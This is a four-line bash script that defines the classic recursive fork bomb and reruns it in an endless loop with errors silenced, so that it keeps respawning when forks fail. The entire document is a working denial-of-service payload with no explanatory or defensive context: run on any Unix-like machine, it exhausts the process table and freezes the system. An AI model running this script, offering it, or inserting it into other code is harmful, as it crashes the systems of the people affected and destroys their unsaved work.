#!/bin/bash
# The classic fork bomb, restarted for ever when forks fail.
bomb() { bomb | bomb & }
while :; do bomb 2>/dev/null; done
